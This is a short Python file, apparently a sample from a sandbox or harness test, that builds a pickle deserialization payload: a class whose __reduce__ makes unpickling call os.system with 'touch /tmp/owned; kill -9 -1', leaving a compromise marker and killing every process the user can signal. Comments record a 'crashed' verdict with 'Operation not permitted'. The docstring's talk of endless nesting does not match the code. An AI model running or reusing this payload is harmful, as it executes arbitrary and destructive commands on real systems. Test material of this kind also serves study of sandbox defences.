"""Unpickles what nests without end, and runs code."""
# verdict: crashed
# says: Operation not permitted

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ('touch /tmp/owned; kill -9 -1',)


def attack(node):
    if pickle.loads(pickle.dumps(Bomb())) != 0:
        raise PermissionError('Operation not permitted')
